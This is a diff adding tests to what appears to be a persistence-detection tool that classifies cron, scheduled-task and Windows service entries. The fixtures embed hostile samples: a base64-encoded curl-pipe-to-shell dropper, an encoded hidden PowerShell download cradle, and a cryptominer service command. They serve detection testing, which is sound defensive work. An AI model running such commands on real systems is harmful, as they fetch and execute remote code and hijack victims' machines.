@@ -340,3 +340,61 @@ test('generic and ordinary entries carry no command evidence: a download piped t
     );
   }
 });
+
+test("what an entry's own text shows (a script it decodes into a shell, a cradle) carries the entry: the entry's observation, no process", () => {
+  const script = Buffer.from('curl http://203.0.113.9/y.sh|sh').toString('base64');
+  const s = everything(entry(`echo ${script} | base64 -d | bash`));
+  const dropper = s.find((x) => x.by === 'shell:decoded-script');
+  assert.ok(dropper, s.map((x) => x.by).join(', '));
+  assert.equal(dropper.kind, 'dropper');
+  assert.ok(isEntryCommand(dropper));
+  assert.equal(dropper.entity, 'host:web-01');
+  assert.deepEqual(dropper.persistence, {
+    mechanism: 'cron',
+    file: '/var/spool/cron/crontabs/redis',
+    line: 5,
+    entry: `echo ${script} | base64 -d | bash`,
+  });
+  // every process-class signal of the entry is the entry's; the persistence signal is the entry itself
+  for (const x of s) assert.ok(x.class === 'persistence' || isEntryCommand(x), `${x.by}: ${x.explanation}`);
+  // a task's encoded cradle is named as the task, not as a process with no pid
+  const cradle = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/s.ps1')", 'utf16le');
+  const task = everything(
+    entry(
+      `powershell.exe -nop -w hidden -enc ${cradle.toString('base64')}`,
+      'powershell.exe',
+      'scheduled-task',
+      '\\Microsoft\\Windows\\Updater',
+    ),
+  );
+  const hidden = task.filter((x) => x.class === 'process');
+  assert.ok(hidden.length > 0);
+  for (const x of hidden) {
+    assert.ok(isEntryCommand(x), x.by);
+    assert.doesNotMatch(x.explanation, /pid \?/);
+  }
+  assert.ok(hidden.some((x) => x.explanation.startsWith('the scheduled-task entry')));
+});
+
+test('Windows entries (tasks, services, Run values) judge their program as a Windows path, %SystemRoot% and \\SystemRoot as Windows', () => {
+  const windowsGrade = (command: string, target: string, mechanism: Mechanism) =>
+    signalsOf(persistence, entry(command, target, mechanism, 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\x'))[0];
+  for (const [command, target] of [
+    ['%SystemRoot%\\PSEXESVC.exe', '%SystemRoot%\\PSEXESVC.exe'],
+    ['\\SystemRoot\\System32\\drivers\\vmci.sys', '\\SystemRoot\\System32\\drivers\\vmci.sys'],
+    ['%windir%\\system32\\svchost.exe -k netsvcs', '%windir%\\system32\\svchost.exe'],
+    [
+      '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc',
+      'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
+    ],
+  ])
+    assert.equal(windowsGrade(command, target, 'service').strength, 'weak', command);
+  const miner = windowsGrade(
+    `C:\\Windows\\Fonts\\wnsvc.exe -o pool.example:443 -u ${XMR}`,
+    'C:\\Windows\\Fonts\\wnsvc.exe',
+    'service',
+  );
+  assert.deepEqual([miner.strength, miner.by], ['strong', 'persistence:service']);
+  assert.match(miner.explanation, /^service entry in HKLM\\SYSTEM\\CurrentControlSet\\Services\\x: /);
+  assert.equal(windowsGrade('D:\\jobs\\agent.exe', 'D:\\jobs\\agent.exe', 'service').strength, 'medium');
+});
